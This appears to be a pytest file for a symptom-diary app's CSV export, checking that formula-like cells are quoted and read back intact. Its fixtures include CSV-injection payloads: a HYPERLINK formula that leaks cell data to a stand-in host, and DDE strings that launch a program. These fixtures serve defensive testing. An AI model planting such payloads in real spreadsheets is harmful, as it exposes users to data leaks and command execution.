"""The CSV export never hands a spreadsheet a formula, and reads back exactly what was written."""

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fibrotrack.diary.actions import CheckInData, do_add_tag, do_save_checkin
from fibrotrack.lib.csvcells import TRIGGERS, neutralise, restore
from fibrotrack.lib.dates import diary_day
from fibrotrack.lib.testing.factories import UserFactory
from fibrotrack.portability.export_csv import export_csv
from fibrotrack.portability.export_json import build_document
from fibrotrack.portability.imports import reader
from fibrotrack.portability.imports.base import Options
from fibrotrack.treatments.actions import SideEffectAnswer, do_record_side_effects

NOTE = '=HYPERLINK("http://example.com/x?"&A1, "Click for your results")'
TAG = "+cmd|' /C calc'!A0"
EFFECT = "@SUM(1+1)*cmd|' /C calc'!A0"
EFFECT_KEY = "-rash"


def _dangerous_account():
    user = UserFactory()
    day = diary_day(user) - dt.timedelta(days=1)
    tag = do_add_tag(user, TAG)
    do_save_checkin(user, day, CheckInData(scores={}, tag_ids=[tag.pk], note=NOTE))
    do_save_checkin(user, day - dt.timedelta(days=1), CheckInData(scores={}, note="\t=1+1"))
    do_record_side_effects(user, day, [SideEffectAnswer(EFFECT_KEY, EFFECT, "mild", None)])
    return user


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_no_exported_cell_starts_like_a_formula():
    cells = [c for row in csv.reader(io.StringIO(export_csv(_dangerous_account()).decode())) for c in row]
    assert "'" + NOTE in cells
    assert "'" + TAG in cells
    assert "'" + EFFECT in cells
    assert "'\t=1+1" in cells
    assert all(not c or c[0] not in TRIGGERS or _is_number(c) for c in cells)


@pytest.mark.django_db
def test_the_quoted_cells_read_back_as_the_original_text(tmp_path):
    source = _dangerous_account()
    first = export_csv(source)
    path = tmp_path / "export.csv"
    path.write_bytes(first)
    target = UserFactory(symptoms=[])
    result = reader("fibrotrack-csv").apply(path, target, Options())
    assert result.problem_count == 0, result.problems
    document = build_document(target)
    assert {c["note"] for c in document["checkins"]} == {NOTE, "\t=1+1"}
    assert TAG in {t["name"] for t in document["tags"]}
    assert [(e["key"], e["name"]) for e in document["side_effects"]] == [(EFFECT_KEY, EFFECT)]
    assert export_csv(target) == first


def test_negative_numbers_stay_numbers():
    assert neutralise("-3") == "-3"
    assert neutralise("-0.25") == "-0.25"
    assert neutralise("-3 days") == "'-3 days"


def test_text_that_merely_starts_with_a_quote_is_left_alone():
    assert neutralise("'tis the season") == "'tis the season"
    assert restore("'tis the season") == "'tis the season"
    assert restore(neutralise("'=1")) == "'=1"


@given(st.text())
def test_quoting_always_reads_back_exactly(text):
    assert restore(neutralise(text)) == text


@given(st.text())
def test_a_quoted_cell_never_starts_like_a_formula(text):
    cell = neutralise(text)
    assert not cell or cell[0] not in TRIGGERS or _is_number(cell)


@given(st.text())
def test_cells_left_as_they_are_read_back_as_they_are(text):
    if neutralise(text) == text:
        assert restore(text) == text
